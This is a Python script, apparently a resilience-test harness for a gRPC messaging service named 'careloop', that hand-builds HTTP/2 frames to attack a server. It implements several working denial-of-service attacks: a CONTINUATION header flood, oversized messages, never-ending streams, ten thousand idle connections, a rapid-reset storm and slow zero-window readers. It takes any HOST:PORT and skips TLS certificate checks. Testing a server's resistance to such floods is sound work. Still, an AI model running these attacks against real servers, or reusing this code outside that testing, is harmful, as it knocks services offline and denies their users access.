#!/usr/bin/env python3
"""One hostile client, which goes on until it is killed. It speaks HTTP/2 by its own hands, since libraries behave.

Usage: attack.py KIND HOST:PORT [--tls] [--token TOKEN]
"""
import argparse
import itertools
import random
import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 8, 9
END_STREAM, END_HEADERS = 1, 4
LIST = "/careloop.messaging.v1.MessagingService/ListThreads"
WATCH = "/careloop.messaging.v1.MessagingService/Watch"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def text(value):
    """An HPACK string, not compressed."""
    value = value.encode()
    if len(value) < 127:
        return bytes([len(value)]) + value
    rest, size = len(value) - 127, b"\x7f"
    while rest >= 128:
        size += bytes([rest % 128 + 128])
        rest //= 128
    return size + bytes([rest]) + value


def head(path, token="", more=()):
    fields = [(":method", "POST"), (":scheme", "https"), (":path", path), (":authority", "careloop"),
              ("content-type", "application/grpc"), ("te", "trailers"), *more]
    if token:
        fields.append(("authorization", "Bearer " + token))
    return b"".join(b"\0" + text(name) + text(value) for name, value in fields)


def message(body):
    return b"\0" + struct.pack(">I", len(body)) + body


class Attacker:
    def __init__(self, options):
        self.options = options
        host, port = options.address.rsplit(":", 1)
        self.address = (host, int(port))
        self.said = False

    def begun(self):
        """Says once that the server has been reached."""
        if not self.said:
            print("begun", flush=True)
            self.said = True

    def connect(self, source=None):
        """A TCP connection, from some other address of the loopback than the honest client's."""
        raw = socket.socket()
        raw.settimeout(5)
        raw.bind((source or f"127.0.0.{random.randint(2, 9)}", 0))
        raw.connect(self.address)
        self.begun()
        if not self.options.tls:
            return raw
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        return context.wrap_socket(raw)

    def open(self, settings=b""):
        connection = self.connect()
        connection.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
        return connection

    def again(self, once):
        """Whatever the server does about it."""
        while True:
            try:
                once()
            except OSError:
                time.sleep(0.01)

    # ---- The attacks ---------------------------------------------------------------------------------------------

    def metadata(self):
        """Heads of a mebibyte, in as many continuations as it takes."""
        block = head(LIST, more=[(f"x-{i}", "v" * 8000) for i in range(128)])
        pieces = [block[i:i + 16384] for i in range(0, len(block), 16384)]

        def once():
            connection = self.open()
            for stream in itertools.count(1, 2):
                out = frame(HEADERS, 0, stream, pieces[0])
                out += b"".join(frame(CONTINUATION, 0, stream, piece) for piece in pieces[1:-1])
                connection.sendall(out + frame(CONTINUATION, END_HEADERS, stream, pieces[-1]))
        self.again(once)

    def messages(self):
        """Requests that announce and send more than a server reads."""
        piece = frame(DATA, 0, 1, b"x" * 16384)

        def once():
            connection = self.open()
            connection.sendall(frame(HEADERS, END_HEADERS, 1, head(LIST, self.options.token)))
            connection.sendall(frame(DATA, 0, 1, b"\0\xff\xff\xff\xff"))
            for _ in range(4096):
                connection.sendall(piece)
        self.again(once)

    def endless(self):
        """Requests that never end, as many as a connection takes, and more connections."""
        kept = []

        def once():
            connection = self.open()
            kept.append(connection)
            for stream in range(1, 400, 2):
                connection.sendall(frame(HEADERS, END_HEADERS, stream, head(LIST, self.options.token)))
                connection.sendall(frame(DATA, 0, stream, b"\0\0\x10\0\0" + b"x"))
            if len(kept) > 500:
                kept.pop(0).close()
        self.again(once)

    def connections(self):
        """Ten thousand connections from a hundred addresses, which say nothing more; those that are closed come back."""
        kept = []
        number = itertools.count()

        def once():
            n = next(number)
            connection = socket.socket()
            connection.settimeout(1)
            connection.bind((f"127.0.{1 + n % 100}.1", 0))
            connection.connect(self.address)
            self.begun()
            kept.append(connection)
            if len(kept) > 10_000:
                kept.pop(0).close()
        self.again(once)

    def resets(self):
        """Calls that are taken back as soon as they are made."""
        block = head(LIST, self.options.token)

        def once():
            connection = self.open()
            reset = struct.pack(">I", 8)
            for first in range(1, 1_000_000, 200):
                streams = range(first, first + 200, 2)
                connection.sendall(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, s, block) + frame(RST_STREAM, 0, s, reset)
                                            for s in streams))
        self.again(once)

    def slow(self):
        """Readers who ask, and read nothing of the answers: no window is ever opened, and nothing is taken from the socket."""
        kept = []

        def once():
            connection = self.open(struct.pack(">HI", 4, 0))
            kept.append(connection)
            for stream in range(1, 40, 2):
                connection.sendall(frame(HEADERS, END_HEADERS, stream, head(WATCH if stream < 20 else LIST, self.options.token)))
                connection.sendall(frame(DATA, END_STREAM, stream, message(b"\x0a\x0apatients/-" if stream >= 20 else b"")))
            if len(kept) > 500:
                kept.pop(0).close()
        self.again(once)


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("kind", choices=[name for name in vars(Attacker) if name not in ("begun", "connect", "open", "again") and name[0] != "_"])
    parser.add_argument("address")
    parser.add_argument("--tls", action="store_true")
    parser.add_argument("--token", default="")
    options = parser.parse_args()
    getattr(Attacker(options), options.kind)()


if __name__ == "__main__":
    sys.exit(main())
